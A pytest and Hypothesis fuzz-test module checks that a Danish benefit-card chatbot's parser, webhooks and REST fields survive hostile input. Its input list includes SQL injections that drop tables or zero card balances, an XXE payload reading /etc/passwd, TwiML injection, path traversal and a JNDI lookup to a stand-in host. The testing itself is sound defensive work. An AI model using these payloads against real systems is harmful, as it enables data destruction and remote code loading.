"""Bad input through every door: the NLU parser, the dialogue engine, both webhooks and the
REST API's free-text fields.

The inputs are ``HOSTILE`` (hand-written: empty, 10 kB, control characters, NUL, mixed scripts,
right-to-left overrides, emoji, SQL and HTML/XML injection, format strings, malformed amounts
and dates, CPR numbers, keywords with junk, lone surrogates), ``RANDOM_CORPUS`` (a seeded mix
of those fragments, Danish bot words and random code points from many scripts) and Hypothesis
strategies over any Unicode text.

What every door must do with them:

* the parser returns a well-formed result (known intent, confidence in [0, 1], entity spans
  inside the text) in bounded time, and never raises;
* the dialogue engine, the Twilio webhook and the Telegram webhook never raise or answer 5xx.
  Either the message is stored exactly as sent (CPR numbers redacted to ``[CPR]``, the one
  documented change) and answered, or it is refused before anything is written (text no
  database can hold as sent: NUL, lone surrogates, over-long addresses or ids): 4xx from
  a webhook, ``InvalidInput`` from the engine, and not one row more in the transcript;
* malformed webhook bodies: see test_fuzz_webhook_bodies.py;
* REST free-text fields (employer name and contact person, card holder name) store the text
  as sent or refuse it with 422 and store nothing, on SQLite and on PostgreSQL.

The ledger's invariants are checked after every test (the channel fixtures do it).
"""

from __future__ import annotations

import datetime as dt
import json
import random
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from api.channels.limits import SMS_MAX_CHARS, TELEGRAM_MAX_CHARS, cut
from conversations.intake import is_storable_text
from danish.wording import GSM7_BASIC, GSM7_EXTENSION
from db.errors import InvalidInput
from db.tables import Citizen, Employer
from nlu import FALLBACK_INTENT, INTENTS, Parser, redact_cpr
from nlu.types import ENTITY_TYPES
from tests.api.channel_fixtures import (
    CAFE_PHONE,
    JENS_PHONE,
    Channels,
    ledger_invariants_hold,
    new_message_sid,
    tg_text_update,
    twiml_messages,
)
from tests.api.conftest import Api
from tests.api.fuzz_support import dispose_engines, engine_for, inbound_count, inbound_rows
from tests.bot.conftest import Chat, make_chat
from tests.ledger.support import valid_cvr
from tests.profiles import examples

TODAY_NLU = dt.date(2026, 11, 23)

# --- the corpus ------------------------------------------------------------------------------

_TEN_KB = ("Hej jeg har arbejdet 4 timer og fået 600 kr frikort 48213 æøå ÆØÅ 😀 مرحبا "
           "<b>&amp;</b> ' OR 1=1 -- \u202e\u200b ") * 80
_TEN_KB = _TEN_KB[:10_240]

HOSTILE: list[str] = [
    # empty and whitespace
    "", " ", "\n\n\n", "\t", "\r\n", "\u00a0\u2003\u3000",
    # size
    "a" * 10_240, _TEN_KB, "saldo " * 1_700,
    # control characters and NUL
    "\x00", "ja\x00", "STOP\x00", "saldo\x00\x00\x00",
    "".join(chr(c) for c in range(1, 32)) + "\x7f", "\x1b[31mrød\x1b[0m saldo",
    "\u0085\u2028\u2029",
    "\x08\x08\x08ja", "\x0c\x0b",
    # scripts, direction, invisible and combining characters
    "Hej مرحبا שלום Привет 你好 こんにちは ÆØÅ æøå",
    "\u202ejeg vil søge et frikort\u202c", "\u2066saldo\u2069", "\u200b\u200c\u200d\ufeff",
    "ja\u200b", "s\u0336a\u0336l\u0336d\u0336o\u0336", "e" + "\u0301" * 300,
    "ｓａｌｄｏ", "SALDO", "sAlDo", "ﬁ ﬂ ß ẞ",
    # emoji
    "😀", "👩‍👩‍👧‍👦 🇩🇰 👍🏽", "saldo 💰💰💰", "🆘🆘🆘", "❤️" * 500,
    # SQL injection
    "'; DROP TABLE conversations; --", "1' OR '1'='1",
    "Robert'); DROP TABLE transcript_messages;--", "%' OR 1=1 --", "\\'; SELECT pg_sleep(10); --",
    "saldo' UNION SELECT cpr_encrypted FROM citizens--",
    "indberet 4 timer 600 kr frikort 48213'; UPDATE card_balances SET posted_ore=0;--",
    # HTML, XML and TwiML injection
    "<script>alert(1)</script>", "<Message>snyd</Message>",
    "]]></Message><Redirect>https://evil.example/</Redirect><Message>",
    "&lt;b&gt; &amp; &#0; &#x1F600; &nbsp;",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<b>fed</b> <i>kursiv</i> [link](https://evil.example) *fed* _kursiv_ `kode`",
    # format strings and paths
    "{0} {name} %s %d %(x)s {{}} {card}", "${jndi:ldap://evil.example/x}", "../../etc/passwd",
    # malformed amounts
    "indberet 4 timer 1.000.000,00,00 kr frikort 48213", "indberet -600 kr frikort 48213",
    "indberet 1e309 kr frikort 48213", "indberet NaN kr", "indberet inf kr", "indberet ١٢٣ kr",
    "indberet １２３ kr frikort 48213", "indberet 99999999999999999999999999 kr frikort 48213",
    "indberet 0,001 kr frikort 48213", "indberet 600 kr 700 kr 800 kr frikort 48213",
    "kr kr kr 5,,5", "indberet 4 timer 600 kr frikort 4821", "indberet 4e3 timer 1 kr",
    "indberet 10000 timer 0 kr frikort 48213", "indberet -4 timer 600 kr frikort 48213",
    # malformed dates
    "betalt 32.13.2025", "betalt 29.02.2025", "betalt 0000-00-00", "betalt 31/04",
    "betalt 9999-99-99", "betalt i forgårs i overmorgen", "betalt 1.1.1", "betalt 01.01.10000",
    "indberet 4 timer 600 kr frikort 48213 betalt 31.02.2026",
    # CPR numbers (must be redacted, never stored in clear)
    "mit cpr er 010190-1234", "0101901234", "cpr: 311299 1234",
    # keywords with junk
    "LINK 48213 0000", "LINK 99999 9999", "link " + "9" * 500, "JA " * 1_000, "nej" * 2_000,
    "tjek kort " + "1" * 300, "cvr " + "3" * 300,
]
"""Hand-written hostile inputs; lone surrogates are added separately (not every door can
carry them)."""

SURROGATES: list[str] = ["\ud800", "saldo\udfff", "\udbff\udc00x\ud800"]
"""Lone surrogates: valid in a Python str and in JSON ("\\ud800"), but not UTF-8 text."""

_FRAGMENTS = [
    "saldo", "indberet", "timer", "kr", "frikort", "48213", "31425360", "ja", "nej", "hjælp",
    "søg", "menneske", "stop", "link", "4", "600", "1.250,50", "i går", "23.11.2026", " ",
    "\n", "?", "!", "æøå", "😀", "ا", "ש", "字", "\u0301", "\x00", "\x1f", "<", ">", "&", "'",
    '"', ";", "--", "%", "{", "}", "\\", "/", "\u202e", "\u200b",
]
_RANGES = [(0x20, 0x7E), (0xA0, 0xFF), (0x0600, 0x06FF), (0x05D0, 0x05EA), (0x4E00, 0x4FFF),
           (0x1F300, 0x1F64F), (0x0300, 0x036F), (0x2000, 0x206F), (0x01, 0x1F), (0xE000, 0xE0FF)]


def _random_corpus(size: int, seed: int = 20261123) -> list[str]:
    rnd = random.Random(seed)
    corpus = []
    for _ in range(size):
        parts = []
        for _ in range(rnd.randint(1, 8)):
            kind = rnd.random()
            if kind < 0.45:
                parts.append(rnd.choice(_FRAGMENTS))
            elif kind < 0.6:
                parts.append(rnd.choice(HOSTILE)[:200])
            else:
                low, high = rnd.choice(_RANGES)
                parts.append("".join(chr(rnd.randint(low, high))
                                     for _ in range(rnd.randint(1, 30))))
        corpus.append(rnd.choice(["", " ", "  "]).join(parts))
    return corpus


RANDOM_CORPUS = _random_corpus(400)

ANY_TEXT = st.one_of(
    st.text(),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=400),
    st.lists(st.sampled_from(_FRAGMENTS + HOSTILE[:40]), max_size=12).map(" ".join),
    st.sampled_from(HOSTILE + SURROGATES),
)
storable = is_storable_text
"""What no door may refuse: text both databases can hold exactly as it was sent."""


# --- the NLU parser ----------------------------------------------------------------------------

KNOWN_INTENTS = set(INTENTS) | {FALLBACK_INTENT}


def _parse_time(parser: Parser, text: str) -> float:
    started = time.thread_time()
    parser.parse(text, TODAY_NLU)
    return time.thread_time() - started


def check_parse(parser: Parser, text: str) -> list[str]:
    """What is wrong with the parse of `text` (empty when nothing is)."""
    started = time.thread_time()
    try:
        result = parser.parse(text, TODAY_NLU)
    except Exception as exc:  # noqa: BLE001 - the point is to catch anything
        return [f"raised {type(exc).__name__}: {exc}"]
    took = time.thread_time() - started
    problems = []
    if took > 2.0 and _parse_time(parser, text) > 2.0:
        # This thread's CPU time, not the wall clock: runaway backtracking burns CPU every time,
        # a loaded machine only stretches the wall clock (make test failed on parses of 2.46
        # and 2.21 s wall beside the other test processes). Slow twice to count.
        problems.append(f"took {took:.2f} s of CPU")
    intent = result["intent"]
    if intent["name"] not in KNOWN_INTENTS:
        problems.append(f"unknown intent {intent['name']!r}")
    if not 0.0 <= float(intent["confidence"]) <= 1.0:
        problems.append(f"confidence {intent['confidence']}")
    for entity in result["entities"]:
        if entity["entity"] not in ENTITY_TYPES:
            problems.append(f"unknown entity {entity['entity']!r}")
        if not 0 <= entity["start"] < entity["end"] <= len(text):
            problems.append(f"span {entity['start']}..{entity['end']} outside the text")
        if not isinstance(entity["value"], str) or not entity["value"]:
            problems.append(f"entity value {entity['value']!r}")
    json.dumps(result)  # serialisable, as Rasa's /model/parse is
    return problems


def test_the_parser_survives_the_whole_corpus(channel_parser: Parser) -> None:
    failures = {repr(text[:80]): problems for text in HOSTILE + SURROGATES + RANDOM_CORPUS
                if (problems := check_parse(channel_parser, text))}
    assert not failures, _report(failures)


@given(text=ANY_TEXT)
@settings(max_examples=examples(300), deadline=None,
          suppress_health_check=[HealthCheck.too_slow])
def test_the_parser_survives_any_text(channel_parser: Parser, text: str) -> None:
    assert check_parse(channel_parser, text) == []


# --- the dialogue engine ---------------------------------------------------------------------


@pytest.fixture
def chat(tmp_path: Path, channel_parser: Parser) -> Iterator[Chat]:
    made = make_chat(f"sqlite:///{tmp_path / 'fuzz-bot.db'}", channel_parser)
    yield made
    made.ledger.close()
    assert ledger_invariants_hold(made.url), "materialised balances disagree with the entries"


@pytest.fixture(autouse=True)
def _dispose_engines() -> Iterator[None]:
    yield
    dispose_engines()


def _report(failures: dict[str, Any]) -> str:
    return "\n".join(f"{where}: {what}" for where, what in failures.items())


def _is_gsm7(text: str) -> bool:
    return all(c in GSM7_BASIC or c in GSM7_EXTENSION for c in text)


def check_bot_message(chat: Chat, who: str, text: str, message_id: str) -> list[str]:
    """Sends one message through Dialogue.handle; what went wrong (empty when nothing did)."""
    before = inbound_count(chat.url)
    try:
        replies = chat.send(who, text, message_id=message_id)
    except InvalidInput:
        if storable(text):
            return ["refused a text that can be stored"]
        if inbound_count(chat.url) != before:
            return ["refused, but something was stored"]
        return []
    except Exception as exc:  # noqa: BLE001
        return [f"raised {type(exc).__name__}: {exc}"]
    problems = []
    if not storable(text):
        problems.append("accepted a text no database can store as sent")
    rows = inbound_rows(chat.url, message_id)
    if len(rows) != 1 or rows[0]["text"] != redact_cpr(text):
        problems.append(f"stored {[r['text'][:60] for r in rows]!r}")
    for reply in replies:
        if not isinstance(reply.text, str) or not reply.text.strip():
            problems.append(f"empty reply {reply.text!r}")
        elif not _is_gsm7(reply.text):
            problems.append(f"reply is not GSM-7: {reply.text[:80]!r}")
    return problems


SENDERS = ["jens", "cafe", "unknown", "+4522334455", "+4599887766"]


def _feed(chat: Chat, texts: list[str], tag: str) -> dict[str, list[str]]:
    failures: dict[str, list[str]] = {}
    for index, text in enumerate(texts):
        who = SENDERS[index % len(SENDERS)]
        if index % 7 == 0:  # some hostile texts arrive in the middle of a wage report
            chat.send("cafe", "indberet 4 timer 600 kr frikort 48213",
                      message_id=f"{tag}-setup-{index}")
            who = "cafe"
        chat.clock.advance(seconds=4)  # 15 messages a minute per sender: under the rate limit
        problems = check_bot_message(chat, who, text, f"{tag}-{index}")
        if problems:
            failures[f"{index}: {text[:60]!r}"] = problems
    return failures


def test_the_engine_survives_the_hand_written_corpus(chat: Chat) -> None:
    failures = _feed(chat, HOSTILE + SURROGATES, "hostile")
    assert not failures, _report(failures)


def test_the_engine_survives_the_random_corpus(chat: Chat) -> None:
    failures = _feed(chat, RANDOM_CORPUS, "random")
    assert not failures, _report(failures)


FLOW_QUESTIONS: dict[str, tuple[str, list[str]]] = {
    # flow: (who, the messages that lead to its questions, one question after another)
    "apply_card": ("new", ["jeg vil søge et frikort", "Peter Nielsen", "SENERE", "8000",
                           "kontanthjælp", "ja", "rengøring", "sms"]),
    "register_employer": ("new", ["jeg vil registrere min virksomhed", "<fresh cvr>",
                                  "Firma ApS"]),
    "report_wage": ("cafe", ["jeg vil indberette løn", "48213", "600", "4"]),
    "check_card": ("cafe", ["kan du tjekke et frikort for mig"]),
    "handoff": ("new", ["kan jeg tale med et menneske"]),
}
"""Every question the bot asks in a flow gets hostile answers (the answer is where a flow
turns free text into commands, dates and amounts)."""

ANSWERS = ["", " ", "\u00a0\u2003\u3000", "\u200b", "a" * 10_240, "ja\x00", "\x08\x08ja",
           "\u202ePeter Nielsen\u202c", "😀", "❤️" * 500, "<Message>snyd</Message>",
           "'; DROP TABLE conversations; --", "{0} {name} %s", "-600", "1e309", "١٢٣", "NaN",
           "Infinity", "9999999999999", "99999 timer", "4,125", "32.13.2025", "0101901234",
           "JA " * 1_000]


def test_every_flow_question_survives_hostile_answers(chat: Chat) -> None:
    """For each answer: walk each flow, giving the hostile answer before every normal step
    (so it lands on every question the flow asks, and the flow goes on from wherever it left
    the conversation)."""
    failures: dict[str, list[str]] = {}
    runs = 0
    for flow, (who, path) in FLOW_QUESTIONS.items():
        for answer in ANSWERS + SURROGATES[:1]:
            runs += 1
            sender = f"+453{runs:07d}" if who == "new" else who
            if who != "new":
                chat.send(sender, "afbryd", message_id=f"flow-{runs}-reset")
            for step, message in enumerate(path):
                chat.clock.advance(seconds=4)
                text = valid_cvr(9_000 + runs) if message == "<fresh cvr>" else message
                # The normal step too: a hostile answer must not leave the conversation stuck.
                problems = check_bot_message(chat, sender, text, f"flow-{runs}-{step}")
                chat.clock.advance(seconds=4)
                problems += check_bot_message(chat, sender, answer, f"flow-{runs}-{step}-answer")
                if problems:
                    failures[f"{flow} after {message!r}: {answer[:40]!r}"] = problems
    assert not failures, _report(failures)


@given(text=ANY_TEXT)
@settings(max_examples=examples(50), deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
def test_the_engine_survives_any_text(chat: Chat, text: str) -> None:
    chat.clock.advance(seconds=4)
    message_id = f"hyp-{time.monotonic_ns()}"
    assert check_bot_message(chat, "+4512121212", text, message_id) == []


# --- the webhooks ----------------------------------------------------------------------------


def check_sms(channels: Channels, sender: str, text: str) -> list[str]:
    """One signed Twilio post; what went wrong (empty when nothing did)."""
    sid = new_message_sid()
    before = inbound_count(channels.url)
    try:
        response = channels.sms(sender, text, sid=sid)
    except Exception as exc:  # noqa: BLE001 - the client could not even send it
        return [f"raised {type(exc).__name__}: {exc}"]
    rows = inbound_rows(channels.url, sid)
    if response.status_code >= 500:
        return [f"{response.status_code}: {response.text[:200]}"]
    if response.status_code == 200:
        problems = []
        if len(rows) != 1 or rows[0]["text"] != redact_cpr(cut(text, SMS_MAX_CHARS)):
            problems.append(f"stored {[r['text'][:60] for r in rows]!r}")
        try:
            twiml_messages(response.text)
        except Exception as exc:  # noqa: BLE001
            problems.append(f"TwiML does not parse: {exc}")
        return problems
    if rows or inbound_count(channels.url) != before:
        return [f"{response.status_code}, but something was stored"]
    if storable(text):
        return [f"refused a storable text with {response.status_code}"]
    return []


def check_telegram(channels: Channels, chat_id: int, text: str) -> list[str]:
    """One Telegram text update (JSON, so lone surrogates travel as \\ud800 escapes)."""
    update = tg_text_update(chat_id, text)
    before = inbound_count(channels.url)
    response = channels.tg(json.dumps(update))
    rows = inbound_rows(channels.url, str(update["update_id"]))
    if response.status_code >= 500:
        return [f"{response.status_code}: {response.text[:200]}"]
    if response.status_code == 200:
        if text == "":  # a message without text: acknowledged and ignored
            return [] if not rows else ["an empty message was stored"]
        if len(rows) != 1 or rows[0]["text"] != redact_cpr(cut(text, TELEGRAM_MAX_CHARS)):
            return [f"stored {[r['text'][:60] for r in rows]!r}"]
        return []
    if rows or inbound_count(channels.url) != before:
        return [f"{response.status_code}, but something was stored"]
    if storable(text):
        return [f"refused a storable text with {response.status_code}"]
    return []


def _feed_webhooks(channels: Channels, texts: list[str]) -> dict[str, list[str]]:
    senders = [JENS_PHONE, CAFE_PHONE, "+4522334455", "+4523456789"]
    failures: dict[str, list[str]] = {}
    for index, text in enumerate(texts):
        channels.clock.advance(seconds=4)
        problems = []
        if not any(0xD800 <= ord(c) <= 0xDFFF for c in text):
            # A form post is UTF-8: a lone surrogate cannot travel in it at all.
            problems += check_sms(channels, senders[index % len(senders)], text)
        problems += check_telegram(channels, 6_000_000 + index % 5, text)
        if problems:
            failures[f"{index}: {text[:60]!r}"] = problems
    assert channels.deliver_all(max_rounds=200) >= 0  # the queued Telegram replies go out
    return failures


def test_both_webhooks_survive_the_hand_written_corpus(channels_any_db: Channels) -> None:
    failures = _feed_webhooks(channels_any_db, HOSTILE + SURROGATES)
    assert not failures, _report(failures)


def test_both_webhooks_survive_the_random_corpus(channels: Channels) -> None:
    failures = _feed_webhooks(channels, RANDOM_CORPUS[:200])
    assert not failures, _report(failures)


@given(text=ANY_TEXT)
@settings(max_examples=examples(60), deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
def test_both_webhooks_survive_any_text(channels: Channels, text: str) -> None:
    assert _feed_webhooks(channels, [text]) == {}


# --- REST free-text fields -------------------------------------------------------------------

REST_TEXTS = [text for text in HOSTILE if 0 < len(text) <= 200] + SURROGATES


def _db_rows(url: str, stmt: Any) -> list[tuple[Any, ...]]:
    with engine_for(url).connect() as conn:
        return [tuple(row) for row in conn.execute(stmt)]


def _post_json(api: Api, path: str, body: dict[str, Any]) -> httpx.Response:
    # Raw JSON, so a lone surrogate goes over the wire as the escape "\ud800".
    return api.call("POST", path, content=json.dumps(body),
                    headers={"Content-Type": "application/json"})


def test_rest_free_text_is_stored_as_sent_or_refused(api: Api) -> None:
    """Employer names are trimmed (documented); everything else is stored exactly as sent."""
    url = api.ledger.config.database_url
    employers, citizens = Employer.__table__, Citizen.__table__
    failures: dict[str, str] = {}
    for index, text in enumerate(REST_TEXTS):
        cvr = valid_cvr(5_000 + index)
        response = _post_json(api, "/api/v1/employers",
                              {"cvr": cvr, "name": text, "contact_person": text})
        stored = _db_rows(url, sa.select(employers.c.name, employers.c.contact_person)
                          .where(employers.c.cvr == cvr))
        expected = text.strip()
        if response.status_code >= 500:
            failures[f"employer {text[:40]!r}"] = f"{response.status_code}"
        elif response.status_code == 201 and stored != [(expected, expected)]:
            failures[f"employer {text[:40]!r}"] = f"stored {stored!r}"
        elif response.status_code != 201 and stored:
            failures[f"employer {text[:40]!r}"] = "refused, but stored"
        elif response.status_code != 201 and storable(text) and expected:
            failures[f"employer {text[:40]!r}"] = f"refused with {response.status_code}"
    for text in REST_TEXTS[:40]:
        before = _db_rows(url, sa.select(citizens.c.name).order_by(citizens.c.id))
        response = _post_json(api, "/api/v1/cards", {
            "cpr": api.new_cpr(), "name": text, "municipality_code": "751",
            "valid_from": "2025-01-01"})
        added = _db_rows(url, sa.select(citizens.c.name).order_by(citizens.c.id))[len(before):]
        if response.status_code >= 500:
            failures[f"card {text[:40]!r}"] = f"{response.status_code}"
        elif response.status_code == 201 and added != [(text,)]:
            failures[f"card {text[:40]!r}"] = f"stored {added!r}"
        elif response.status_code != 201 and added:
            failures[f"card {text[:40]!r}"] = "refused, but stored"
        elif response.status_code != 201 and storable(text):
            failures[f"card {text[:40]!r}"] = f"refused with {response.status_code}"
    assert not failures, _report(failures)
